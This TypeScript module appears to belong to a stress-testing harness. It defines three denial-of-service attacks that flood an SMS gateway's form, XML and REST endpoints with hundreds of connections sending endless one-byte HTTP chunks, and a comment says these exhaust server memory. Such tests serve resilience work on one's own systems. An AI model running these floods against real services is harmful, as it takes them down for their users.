import { scaled, type Attack } from '../attack.ts'
import { flood } from '../flood.ts'

const head = (path: string, type: string) =>
  `POST ${path} HTTP/1.1\r\nHost: gateway\r\nContent-Type: ${type}\r\nTransfer-Encoding: chunked\r\n\r\n`
const bytes = (count: number) => '1\r\nx\r\n'.repeat(count)

/** Sends form bodies in chunks of one byte, which never end. Storing such a chunk takes a hundred times its size. */
export const formsInPieces: Attack = {
  title: 'form bodies in chunks of one byte',
  by: 'asp',
  run: (target) =>
    flood(target, {
      connections: scaled(target, 400),
      text: () => head('/api/auth.asp', 'application/x-www-form-urlencoded') + bytes(65_000),
      answersToText: 0,
    }),
}

export const xmlInPieces: Attack = {
  title: 'XML in chunks of one byte',
  by: 'xml',
  run: (target) =>
    flood(target, {
      connections: scaled(target, 400),
      text: () => `${head('/api/xmlsendsmsmulti.asp', 'text/xml')}13\r\n<Svc_Multi_Message>\r\n${bytes(500_000)}`,
      answersToText: 0,
    }),
}

export const wrongKeysInPieces: Attack = {
  title: 'REST bodies in chunks of one byte, with a wrong key',
  by: 'rest',
  run: (target) =>
    flood(target, {
      connections: scaled(target, 400),
      text: () =>
        head('/api/rest/v1/sms/outgoing/send', 'application/json\r\nAuthorization: gw_wrong') + bytes(200_000),
      answersToText: 0,
    }),
}
